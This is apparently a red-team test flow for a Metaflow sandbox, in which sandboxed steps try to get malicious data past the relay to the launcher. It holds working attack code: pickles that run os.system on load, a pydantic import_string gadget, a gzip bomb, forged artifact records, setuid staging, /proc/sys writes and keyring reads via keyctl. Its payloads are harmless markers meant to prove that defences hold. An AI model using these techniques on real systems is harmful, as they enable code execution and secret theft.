"""Red-team attacks on the relay: a sandboxed step that tries to send home more than its own artifacts.

One flow, one `--attack` parameter (see tests/test_security_escapes.py for what each one proves):

  victim          (plain start) stores an artifact; a later run attacks it
  unlisted-blob   `first` stages a hash-correct malicious blob that data.json does not list; `second` sets an
                  artifact that pickles to the same bytes (deduplicated: nothing staged, nothing checked);
                  the plain `end` step unpickles it on the launcher
  orchestrator    as unlisted-blob, but `second` stores the object as its `_foreach_stack`, which the
                  runtime (the orchestrator on the launcher) unpickles for every finished task
  retry-blob      attempt 0 of `first` writes the malicious blob and dies before data.json exists; attempt 1
                  sets the artifact (deduplicated); `end` unpickles it
  forged-record   `first` stages an unlisted malicious blob and pre-writes its own artifact record for the
                  genuine artifact `greeting`, pointing at that blob; the client later unpickles it
  sidecar         `first` stages the `<sha>_meta` sidecar (or S3 object metadata) of an existing blob of an
                  earlier run (`--target`) saying {"cas_raw": true}: that run's artifact no longer loads
  setuid          `first` gives staged files (a listed blob, its sidecar, a task file) setuid/setgid bits
  proc-sys        `first` records whether it can write /proc/sys (writing back the value it just read)
  keyring         `first` records whether it can see the launcher's session keyring (`--canary`)
  gzip-bomb       `first` (memory=256) lists an artifact whose 1 MB gzip blob inflates to 1 GiB
  sparse          `first` stages an 8 GiB sparse file named like a blob
  gadget          `first` lists a hand-made pickle that calls pydantic.v1.utils.import_string("os.system");
                  the step trusts "pydantic"; `end` unpickles it

Blobs are written through the step's own datastore object (`self._datastore`), whose storage the sandbox
stages: the same code reaches the local staging tree and the S3 staging prefix.
"""

import ctypes
import hashlib
import io
import json
import os
import pickle
import sys
import zlib

from metaflow import FlowSpec, Parameter, current, retry, sandbox, step

GZIP_META = {"cas_raw": False, "cas_version": 1}
#: The attacking step is small (memory=256), except where the image sets the size (Daytona's default snapshot,
#: E2B's templates), which take no sizes.
MEMORY_MB = None if os.environ.get("METAFLOW_SANDBOX_BACKEND") in ("daytona", "e2b") else 256


class Bomb:
    """Unpickling it runs a shell command (where it is unpickled: only the launcher can see `marker`)."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, ("touch %s" % self.marker,))


def bomb_bytes(marker):
    return pickle.dumps(Bomb(marker), protocol=4)  # what Metaflow's pickle serializer writes


def storage(flow):
    """The step's datastore storage; inside a sandbox its writes land in the staging area."""
    return flow._datastore._ca_store._storage_impl


def blob_path(flow, sha):
    cas = flow._datastore._ca_store
    return cas._storage_impl.path_join(cas._prefix, sha[:2], sha)


def stage_blob(flow, data, meta=None, sha=None):
    """Stage `data` (already encoded as stored) under the CAS path of `sha`, with its metadata."""
    path = blob_path(flow, sha)
    storage(flow).save_bytes([(path, (io.BytesIO(data), meta or GZIP_META))], overwrite=True)
    return path


def plant(flow, raw):
    """Stage `raw` as a CAS blob exactly as Metaflow would (gzip, sha1 name, sidecar); return its sha."""
    return flow._datastore._ca_store.save_blobs([raw])[0].key


def list_artifact(flow, name, sha, size, type_name):
    """Make this task's data.json list `name` -> `sha` without pickling anything."""
    flow._datastore._objects[name] = sha
    flow._datastore._info[name] = {"size": size, "type": type_name, "encoding": "pickle-v4"}


def local_staging(*parts):
    return os.path.join(os.environ["METAFLOW_SANDBOX_STAGING"], *parts)


def attempt(action):
    try:
        action()
        return "reached"
    except OSError as error:
        return type(error).__name__


def gzip_of_huge_pickle(n):
    """gzip(pickle.dumps(bytes(n), protocol=4)) built in 1 MiB steps, and the sha1 of the pickle.

    Deflate blocks flushed with Z_FULL_FLUSH do not depend on earlier input, so the block for a 1 MiB run
    of zeros is computed once and repeated; the gzip header and trailer are written by hand.
    """
    header = b"\x80\x04\x8e" + n.to_bytes(8, "little")  # PROTO 4, BINBYTES8 n
    trailer = b"\x94."  # MEMOIZE, STOP
    chunk = bytes(1 << 20)
    assert n % len(chunk) == 0
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff", deflate.compress(header)]
    out.append(deflate.flush(zlib.Z_FULL_FLUSH))
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    sha = hashlib.sha1(header)
    crc = zlib.crc32(header)
    for _ in range(n // len(chunk)):
        out.append(block)
        sha.update(chunk)
        crc = zlib.crc32(chunk, crc)
    out.append(deflate.compress(trailer) + deflate.flush())
    sha.update(trailer)
    crc = zlib.crc32(trailer, crc)
    total = len(header) + n + len(trailer)
    out.append(crc.to_bytes(4, "little") + (total & 0xFFFFFFFF).to_bytes(4, "little"))
    return b"".join(out), sha.hexdigest(), total


def gadget_pickle(marker):
    """pydantic.v1.utils.import_string("os.system")("touch <marker>"), written opcode by opcode."""

    def text(value):
        data = value.encode()
        return b"X" + len(data).to_bytes(4, "little") + data  # BINUNICODE

    return (
        b"\x80\x02"  # PROTO 2
        + b"cpydantic.v1.utils\nimport_string\n"  # GLOBAL
        + b"("
        + text("os.system")
        + b"tR"  # MARK ... TUPLE, REDUCE -> os.system
        + b"("
        + text("touch %s" % marker)
        + b"tR"  # MARK ... TUPLE, REDUCE -> os.system("touch ...")
        + b"."
    )


def keyring_view(canary):
    """What of the launcher's session keyring this process sees: (sightings of the canary, notes).

    /proc/keys lists every key the process may view; keyctl (x86_64 syscall 250) reads the session
    keyring's key ids, then describes and reads each key.
    """
    seen, notes = [], []
    try:
        with open("/proc/keys") as f:
            if canary in f.read():
                seen.append("/proc/keys lists the canary key")
    except OSError as error:
        notes.append("/proc/keys: %s" % type(error).__name__)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    keyctl, read, describe, session = 250, 11, 6, -3
    buf = ctypes.create_string_buffer(4096)
    count = libc.syscall(keyctl, read, ctypes.c_long(session), buf, ctypes.c_long(4096), 0)
    if count < 0:
        notes.append("keyctl read of the session keyring: errno %d" % ctypes.get_errno())
        return seen, notes
    notes.append("the session keyring holds %d key(s)" % (count // 4))
    ids = [int.from_bytes(buf.raw[i : i + 4], "little", signed=True) for i in range(0, min(count, 4096), 4)]
    for key in ids:
        n = libc.syscall(keyctl, describe, ctypes.c_long(key), buf, ctypes.c_long(4096), 0)
        if n > 0 and canary in buf.raw[:n].decode(errors="replace"):
            seen.append("keyctl describe shows the canary key")
        n = libc.syscall(keyctl, read, ctypes.c_long(key), buf, ctypes.c_long(4096), 0)
        if n > 0 and canary in buf.raw[: min(n, 4096)].decode(errors="replace"):
            seen.append("keyctl read returns the canary payload")
    return seen, notes


class AttackFlow(FlowSpec):
    attack = Parameter("attack", default="victim")
    marker = Parameter("marker", default="")
    target = Parameter("target", default="")  # sha of the blob the sidecar attack rewrites
    canary = Parameter("canary", default="")  # description and payload of the keyring canary

    @step
    def start(self):
        if self.attack == "victim":
            self.victim = {"precious": list(range(10)), "run": current.run_id}
        self.next(self.first)

    @retry(times=1, minutes_between_retries=0)
    @sandbox(memory=MEMORY_MB, trusted_types=["pydantic"])
    @step
    def first(self):
        attack = self.attack
        print("attack", attack, "attempt", current.retry_count)
        if attack in ("unlisted-blob", "orchestrator"):
            # The blob is no artifact's: data.json lists only its sha, as the string artifact `planted`.
            self.planted = plant(self, bomb_bytes(self.marker))
        elif attack == "retry-blob":
            if current.retry_count == 0:
                print("planted", plant(self, bomb_bytes(self.marker)))
                sys.stdout.flush()
                os._exit(1)  # dies before data.json exists (like an OOM kill while persisting)
            self.x = Bomb(self.marker)  # attempt 1: pickles to the planted bytes; deduplicated
        elif attack == "forged-record":
            sha = plant(self, bomb_bytes(self.marker))
            self.planted = sha
            self.greeting = "hello"  # the genuine artifact: data.json lists a clean blob for it
            ds = self._datastore
            record = {
                "flow_id": current.flow_name,
                "run_number": current.run_id,
                "step_name": current.step_name,
                "task_id": current.task_id,
                "attempt_id": current.retry_count,
                "name": "greeting",
                "content_type": "pickle-v4",  # what Metaflow records: the encoding
                "type": "metaflow.artifact",
                "sha": sha,
                "ds_type": ds._storage_impl.TYPE,
                "location": ":root:%s" % ds._storage_impl.datastore_root,
                "user_name": os.environ.get("METAFLOW_USER", "sandbox"),
                "tags": [],
                "system_tags": [],
                "ts_epoch": 0,
            }
            meta = local_staging(
                current.flow_name, current.run_id, current.step_name, current.task_id, "_meta"
            )
            os.makedirs(meta, exist_ok=True)
            with open(os.path.join(meta, "%d_artifact_greeting.json" % current.retry_count), "w") as f:
                json.dump(record, f)  # Metaflow's own record for `greeting` is then skipped (file exists)
        elif attack == "sidecar":
            path = blob_path(self, self.target)
            with storage(self).load_bytes([path]) as loaded:  # the flow's blobs are readable
                for _, local, _meta in loaded:
                    with open(local, "rb") as f:
                        stored = f.read()  # gzip bytes: they hash (gunzipped) to the name
            stage_blob(self, stored, {"cas_raw": True, "cas_version": 1}, sha=self.target)
        elif attack == "setuid":
            raw = pickle.dumps("innocent", protocol=4)
            sha = plant(self, raw)
            self.innocent = "innocent"  # deduplicated against the planted (listed) blob
            blob = local_staging(blob_path(self, sha))
            task_file = local_staging(
                current.flow_name,
                current.run_id,
                current.step_name,
                current.task_id,
                "%d.setuid" % current.retry_count,
            )
            with open(task_file, "wb") as f:
                f.write(b"#!/bin/sh\nid\n")
            for path in (blob, blob + "_meta", task_file):
                os.chmod(path, 0o6777)
            self.modes = {p: oct(os.stat(p).st_mode) for p in (blob, blob + "_meta", task_file)}
        elif attack == "proc-sys":
            swappiness = "/proc/sys/vm/swappiness"

            def write_back():
                with open(swappiness) as f:
                    value = f.read()
                with open(swappiness, "w") as f:  # the same value: no host setting changes
                    f.write(value)

            self.swappiness_write = attempt(write_back)
            self.core_pattern_writable = os.access("/proc/sys/kernel/core_pattern", os.W_OK)
        elif attack == "keyring":
            self.keyring_seen, self.keyring_notes = keyring_view(self.canary)
        elif attack == "gzip-bomb":
            stored, sha, size = gzip_of_huge_pickle(1 << 30)
            stage_blob(self, stored, sha=sha)
            list_artifact(self, "bomb", sha, size, "<class 'bytes'>")
            print("bomb blob", sha, len(stored), "bytes")
        elif attack == "sparse":
            sha = "ab" + hashlib.sha1(b"sparse").hexdigest()[2:]
            path = local_staging(blob_path(self, sha))
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.truncate(8 << 30)  # 8 GiB, no disk used
        elif attack == "gadget":
            raw = gadget_pickle(self.marker)
            sha = plant(self, raw)
            list_artifact(self, "gadget", sha, len(raw), "<class 'str'>")
        self.next(self.second)

    @sandbox
    @step
    def second(self):
        if self.attack == "unlisted-blob":
            self.x = Bomb(self.marker)  # pickles to the planted blob's bytes: deduplicated, never staged
        elif self.attack == "orchestrator":
            # The runtime itself loads every task's _foreach_stack (to name the finished task): no plain step
            # needs to touch anything for the planted pickle to run on the launcher.
            self._foreach_stack = Bomb(self.marker)
        self.next(self.end)

    @step
    def end(self):
        # A plain step on the launcher, using what the sandboxed steps produced.
        if self.attack in ("unlisted-blob", "retry-blob"):
            print("x:", self.x)
        if self.attack == "gadget":
            print("gadget:", self.gadget)


if __name__ == "__main__":
    AttackFlow()
